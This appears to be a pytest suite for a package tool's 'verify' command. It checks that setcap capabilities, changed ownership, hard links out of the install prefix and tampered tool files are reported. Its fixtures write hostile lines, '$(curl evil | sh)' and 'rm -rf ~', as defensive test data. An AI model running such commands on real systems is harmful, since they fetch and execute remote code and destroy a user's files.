"""verify checks what `rpm -V` checks and more: owner and group, file capabilities and other
security attributes (real setcap), a file's other names (hard links out of the prefix) and
the content of the tool files it accepts without a digest; each after a clean run too, when
the record of that run would otherwise let the file pass unread."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path

import pytest

from .pyish import MODULE


def _files(sandbox, prefix: Path, lock: Path, *args: str, expect: int) -> list[str]:
    res = sandbox.run("verify", str(prefix), "--env", "default", "--lock", str(lock), *args, "--json", expect=expect)
    return {c["name"]: c["findings"] for c in json.loads(res.stdout)["checks"]}["files"]


def _clean_then(sandbox, prefix: Path, lock: Path) -> None:
    """A clean run first: it records every entry, so the next run re-reads only what changed."""
    assert _files(sandbox, prefix, lock, expect=0) == []


@pytest.mark.skipif(not shutil.which("setcap"), reason="needs setcap (Debian: libcap2-bin)")
def test_file_capabilities_are_a_finding(sandbox, pyish_env):
    lock, prefix = pyish_env
    _clean_then(sandbox, prefix, lock)
    target = prefix / "bin" / "pyish"
    subprocess.run(["setcap", "cap_setuid+ep", str(target)], check=True)
    assert "cap_setuid" in subprocess.run(["getcap", str(target)], capture_output=True, text=True).stdout
    for args in ((), ("--rehash",)):
        found = _files(sandbox, prefix, lock, *args, expect=1)
        assert found == ["file capabilities: bin/pyish carries security.capability (running it grants privileges, "
                         "as setuid would; no package sets them)"], found
    subprocess.run(["setcap", "-r", str(target)], check=True)
    assert _files(sandbox, prefix, lock, expect=0) == []


def test_another_owner_is_a_finding(sandbox, pyish_env, peer_site):
    lock, prefix = pyish_env
    _clean_then(sandbox, prefix, lock)
    other = peer_site.peers[0]
    os.chown(prefix / "lib" / "libpyish.so", other.uid, -1)
    found = _files(sandbox, prefix, lock, expect=1)
    assert found == [f"owner changed: lib/libpyish.so is owned by {other.name}, the prefix by root "
                     "(its owner can change it after verify)"], found
    os.chown(prefix / "lib" / "libpyish.so", 0, peer_site.gid)
    found = _files(sandbox, prefix, lock, expect=1)
    assert len(found) == 1 and found[0].startswith(f"group changed: lib/libpyish.so has group {peer_site.gid}"), found


def test_a_hard_link_out_of_the_prefix_is_a_finding(sandbox, pyish_env, peer_site):
    # The module is replaced by a hard link to an identical file outside the prefix, which its
    # owner can edit after verify passed.
    lock, prefix = pyish_env
    _clean_then(sandbox, prefix, lock)
    outside = sandbox.path("elsewhere") / "copy.py"
    shutil.copy2(prefix / MODULE, outside)
    (prefix / MODULE).unlink()
    os.link(outside, prefix / MODULE)
    for args in ((), ("--rehash",)):
        found = _files(sandbox, prefix, lock, *args, expect=1)
        assert found == [f"hard-linked: {MODULE} has 2 names, one outside the prefix that is not the package cache's "
                         "copy (whoever can write that name can change the file after verify)"], found
    # The attacker's own file: its owner is named first.
    os.chown(outside, peer_site.peers[1].uid, -1)
    found = _files(sandbox, prefix, lock, expect=1)
    assert found[0].startswith(f"owner changed: {MODULE} is owned by {peer_site.peers[1].name}"), found


@pytest.mark.parametrize(("rel", "data"), [
    (".extforge/install.lock", b"0" * (50 << 20)),
    (".extforge/install.lock", b"import os\n"),
    ("conda-meta/history", b"==> 2026-01-01 <==\n$(curl evil | sh)\n"),
    ("CACHEDIR.TAG", b"#!/bin/sh\nrm -rf ~\n"),
])
def test_tool_files_hold_what_their_tool_writes(sandbox, pyish_env, rel, data):
    lock, prefix = pyish_env
    _clean_then(sandbox, prefix, lock)
    (prefix / rel).parent.mkdir(mode=0o700, exist_ok=True)
    (prefix / rel).write_bytes(data)
    found = _files(sandbox, prefix, lock, expect=1)
    assert len(found) == 1 and found[0].startswith(f"tool file changed: {rel} "), found
    (prefix / rel).unlink()
    # What the tools do write passes.
    good = {".extforge/install.lock": b"4242\n", "conda-meta/history": b"==> 2026-01-01 10:00:00 <==\n# cmd: x\n+c::p-1-0\n",
            "CACHEDIR.TAG": b"Signature: 8a477f597d28d172789f06886806bc55\n# tag\n"}[rel]
    (prefix / rel).write_bytes(good)
    assert _files(sandbox, prefix, lock, expect=0) == []


def test_two_prefixes_from_one_pruned_cache_are_no_finding(sandbox, pyish_env):
    # Both prefixes' files are hard links of the cache's copy; `cache --prune` then removes the
    # copy, leaving the two prefixes as each other's second name.
    lock, prefix = pyish_env
    other = sandbox.root / "envs" / "second"
    sandbox.run("install", "default", "--prefix", str(other), "--lock", str(lock), expect=0)
    assert (prefix / MODULE).stat().st_nlink == 3
    sandbox.run("cache", "--prune", "0", "--area", "rattler", expect=0)
    assert (prefix / MODULE).stat().st_nlink == 2
    for p in (prefix, other):
        assert _files(sandbox, p, lock, "--rehash", expect=0) == []
